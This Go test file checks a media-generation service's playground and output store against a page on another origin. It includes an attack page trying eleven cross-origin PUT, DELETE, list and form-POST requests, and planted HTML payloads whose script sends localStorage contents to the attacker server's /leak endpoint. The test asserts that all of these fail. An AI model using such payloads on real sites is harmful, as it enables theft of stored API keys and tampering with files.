package playground_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"html/template"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/mediagen-dev/mediagen/internal/local/runtime"
	"github.com/mediagen-dev/mediagen/internal/testkit/runtimetest"
	"github.com/mediagen-dev/mediagen/internal/testkit/waitfor"
)

// attackPage tries, from its own origin, every way a page could write into
// the output store or list it: CORS requests (which need the store's
// consent) and no-cors form posts (sent without asking, answer unreadable:
// the test checks the store afterwards).
var attackPage = template.Must(template.New("attack").Parse(`<!doctype html>
<title>a page on another origin</title>
<script>
"use strict";
const html = '<script>fetch("{{.Leak}}?k="+encodeURIComponent(JSON.stringify(localStorage)))<\/script>';
const form = (key) => { const f = new FormData(); f.append("key", key); f.append("Content-Type", "text/html");
  f.append("file", new Blob([html], { type: "text/html" })); return f; };
const tries = [
  ["PUT an output on the file origin", () => fetch({{.Output}}, { method: "PUT", body: html, headers: { "Content-Type": "text/html" } })],
  ["DELETE an output on the file origin", () => fetch({{.Output}}, { method: "DELETE" })],
  ["read an output across origins", () => fetch({{.Output}})],
  ["list the file origin", () => fetch({{.Files}} + "/?list-type=2")],
  ["PUT a page through the S3 API", () => fetch({{.S3}} + "/" + {{.Bucket}} + "/" + {{.Key}}, { method: "PUT", body: html, headers: { "Content-Type": "text/html" } })],
  ["list through the S3 API", () => fetch({{.S3}} + "/" + {{.Bucket}} + "?list-type=2")],
  ["PUT a page on the API's origin", () => fetch({{.Base}} + "/s3/" + {{.Bucket}} + "/" + {{.Key}}, { method: "PUT", body: html, headers: { "Content-Type": "text/html" } })],
  ["list on the API's origin", () => fetch({{.Base}} + "/s3/" + {{.Bucket}} + "?list-type=2")],
  ["form POST to the S3 API", () => fetch({{.S3}} + "/" + {{.Bucket}}, { method: "POST", mode: "no-cors", body: form({{.Key}}) })],
  ["form POST to the file origin", () => fetch({{.Output}}, { method: "POST", mode: "no-cors", body: form({{.Key}}) })],
  ["form POST on the API's origin", () => fetch({{.Base}} + "/s3/" + {{.Bucket}}, { method: "POST", mode: "no-cors", body: form({{.Key}}) })],
];
window.attempts = { results: [], done: false };
(async () => {
  for (const [name, attempt] of tries) {
    let outcome;
    try {
      const r = await attempt();
      outcome = r.type === "opaque" ? "sent, answer unreadable" : "answered " + r.status;
    } catch (err) {
      outcome = "blocked: " + err.name;
    }
    window.attempts.results.push({ name, outcome });
  }
  window.attempts.done = true;
})();
</script>
<p>nothing to see</p>
`))

// TestAPageOnAnotherOriginCannotWriteTheStoreNorRunScriptOnThePlayground
// runs the probe's chain in Chromium: the playground holds an API key in
// localStorage; a page on another origin tries to PUT, POST or DELETE files
// in the output store (on the file origin, through the S3 API, and on the
// API's origin where the store used to be) and to list it. Every CORS
// attempt is blocked by the browser, every blind one refused by the store,
// which is unchanged. HTML files put into the store by the test itself
// (the worst case) run no script when opened: their origin is not the
// playground's, they are sandboxed, and nothing reaches the attacker.
func TestAPageOnAnotherOriginCannotWriteTheStoreNorRunScriptOnThePlayground(t *testing.T) {
	pw := browserTools(t)
	rt := runtimetest.Start(t, runtime.Config{SimulatorLatency: 100 * time.Millisecond})

	// One output in the store, made through the API.
	client := &http.Client{Timeout: 5 * time.Minute} // a hang detector: a loaded machine is slow
	output, uuid := makeImage(t, client, rt)
	before := get(t, client, output)

	var (
		mu      sync.Mutex
		leaks   []string
		payload string
		attack  = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			switch r.URL.Path {
			case "/leak":
				mu.Lock()
				leaks = append(leaks, r.URL.Query().Get("k"))
				mu.Unlock()
				return
			case "/control": // the payload served as a page of the attacker's own
				w.Header().Set("Content-Type", "text/html; charset=utf-8")
				io.WriteString(w, payload)
				return
			}
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			attackPage.Execute(w, map[string]string{"Output": output, "Files": rt.FilesURL, "S3": rt.Objects.Endpoint,
				"Base": rt.BaseURL, "Bucket": runtime.Bucket, "Key": "generations/" + uuid + "/7.png", "Leak": "http://" + r.Host + "/leak"})
		}))
	)
	defer attack.Close()
	if origin(attack.URL) == origin(rt.BaseURL) || origin(rt.FilesURL) == origin(rt.BaseURL) {
		t.Fatalf("origins: attacker %s, API %s, files %s; want three", attack.URL, rt.BaseURL, rt.FilesURL)
	}

	// The worst case: HTML in the store under output keys (the test puts
	// it there through the S3 API, as no request can), once stored as
	// text/html and once as image/png.
	payload = fmt.Sprintf(`<!doctype html><script>fetch(%q+"?k="+encodeURIComponent(JSON.stringify(localStorage)));document.title="ran"</script>`, attack.URL+"/leak")
	bucket := rt.Objects.MediaBucket()
	var planted []string
	for i, ctype := range []string{"text/html", "image/png"} {
		key := fmt.Sprintf("generations/%s/%d.png", uuid, 8+i)
		if err := bucket.Put(context.Background(), key, strings.NewReader(payload), ctype); err != nil {
			t.Fatal(err)
		}
		planted = append(planted, bucket.URL(key))
	}

	checks, err := runBrowserScript(t, pw, "chain.cjs", "BASE_URL="+rt.BaseURL, "API_KEY="+rt.Dev.APIKey,
		"ATTACK_URL="+attack.URL+"/", "PLANTED="+strings.Join(planted, " "), "CONTROL_URL="+attack.URL+"/control")
	if err != nil {
		t.Fatalf("the browser run failed: %v", err)
	}

	if len(checks["key stored"]) != 1 || checks["key stored"][0]["stored"] != true {
		t.Fatalf("the playground did not keep the key in localStorage: %v", checks["key stored"])
	}
	if len(checks["attempts"]) != 1 {
		t.Fatalf("the attacker's page did not report: %v", checks)
	}
	results, _ := checks["attempts"][0]["results"].([]any)
	if len(results) != 11 {
		t.Errorf("the attacker's page made %d attempts, want 11", len(results))
	}
	for _, r := range results {
		m, _ := r.(map[string]any)
		name, _ := m["name"].(string)
		outcome, _ := m["outcome"].(string)
		// A CORS request the store did not consent to fails in the
		// browser; a blind (no-cors) one is sent, and the store must
		// have refused it (checked below).
		if strings.HasPrefix(name, "form POST") {
			if outcome != "sent, answer unreadable" && !strings.HasPrefix(outcome, "blocked") {
				t.Errorf("%s: %s", name, outcome)
			}
		} else if !strings.HasPrefix(outcome, "blocked") {
			t.Errorf("%s: %s, want blocked by the browser (no CORS consent)", name, outcome)
		}
	}
	for _, p := range checks["planted"] {
		if o, _ := p["origin"].(string); o == origin(rt.BaseURL) {
			t.Errorf("a file of the store opened on the playground's origin: %v", p)
		}
	}
	if len(checks["planted"]) != len(planted) {
		t.Errorf("%d planted files opened, want %d", len(checks["planted"]), len(planted))
	}
	if len(checks["control"]) != 1 {
		t.Errorf("the control page's script did not run: the test would see no leak either way")
	}
	if len(checks["key kept"]) != 1 || checks["key kept"][0]["kept"] != true {
		t.Errorf("the key is gone from the playground: %v", checks["key kept"])
	}
	// The payload does run where it is a page (the control, on the
	// attacker's own origin, whose localStorage is empty): exactly that
	// one call reached the attacker, none from the store, and no key.
	// The browser has exited (runBrowserScript waits for it): closing the
	// attacker's server waits for any call it had sent to be handled.
	attack.Close()
	mu.Lock()
	if len(leaks) != 1 || leaks[0] != "{}" {
		t.Errorf("calls that reached the attacker: %q; want only the control's, with its own empty storage", leaks)
	}
	for _, l := range leaks {
		if strings.Contains(l, rt.Dev.APIKey) {
			t.Errorf("the API key reached the attacker: %s", l)
		}
	}
	mu.Unlock()

	// The store is as it was: the output unchanged, the attacker's key
	// never written.
	if after := get(t, client, output); !bytes.Equal(after, before) {
		t.Errorf("the output changed: %d bytes, were %d", len(after), len(before))
	}
	if ok, err := bucket.Exists(context.Background(), "generations/"+uuid+"/7.png"); ok || err != nil {
		t.Errorf("the attacker's object exists: %v, %v", ok, err)
	}
}

// makeImage makes one image through the API and returns its output URL and
// the generation's UUID.
func makeImage(t *testing.T, client *http.Client, rt *runtime.Runtime) (string, string) {
	t.Helper()
	body := `{"model":"provider-a","model_version":"theta-4-fast","input":{"prompt":"a lighthouse"}}`
	req, _ := http.NewRequest(http.MethodPost, rt.BaseURL+"/api/generations/generate", strings.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+rt.Dev.APIKey)
	req.Header.Set("Content-Type", "application/json")
	var created struct {
		UUID string `json:"uuid"`
	}
	doJSON(t, client, req, &created)
	type statusView struct {
		Status string   `json:"status"`
		Output []string `json:"output"`
	}
	view, ok := waitfor.Value(t, 10*time.Minute, "the image to end", func() (statusView, bool) {
		req, _ := http.NewRequest(http.MethodGet, rt.BaseURL+"/api/generations/status/"+created.UUID, nil)
		req.Header.Set("Authorization", "Bearer "+rt.Dev.APIKey)
		var view statusView
		doJSON(t, client, req, &view)
		return view, view.Status != "processing"
	})
	if !ok {
		t.FailNow()
	}
	if view.Status != "completed" || len(view.Output) != 1 {
		t.Fatalf("the image ended %s with %d outputs", view.Status, len(view.Output))
	}
	return view.Output[0], created.UUID
}

func doJSON(t *testing.T, client *http.Client, req *http.Request, v any) {
	t.Helper()
	resp, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		raw, _ := io.ReadAll(resp.Body)
		t.Fatalf("%s %s: HTTP %d %s", req.Method, req.URL.Path, resp.StatusCode, raw)
	}
	if err := json.NewDecoder(resp.Body).Decode(v); err != nil {
		t.Fatal(err)
	}
}

func get(t *testing.T, client *http.Client, url string) []byte {
	t.Helper()
	resp, err := client.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: HTTP %d", url, resp.StatusCode)
	}
	return raw
}

// origin is a URL's scheme and host:port.
func origin(u string) string {
	rest := strings.SplitN(u, "/", 4)
	if len(rest) < 3 {
		return u
	}
	return rest[0] + "//" + rest[2]
}
